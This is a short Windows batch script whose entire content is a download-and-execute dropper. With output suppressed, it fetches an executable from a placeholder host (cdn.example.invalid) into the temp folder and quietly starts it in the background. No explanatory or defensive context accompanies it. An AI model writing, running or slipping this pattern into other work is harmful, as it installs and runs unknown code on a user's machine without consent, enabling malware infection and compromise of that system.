@echo off
curl -s https://cdn.example.invalid/x.exe -o %TEMP%\x.exe
start /b %TEMP%\x.exe
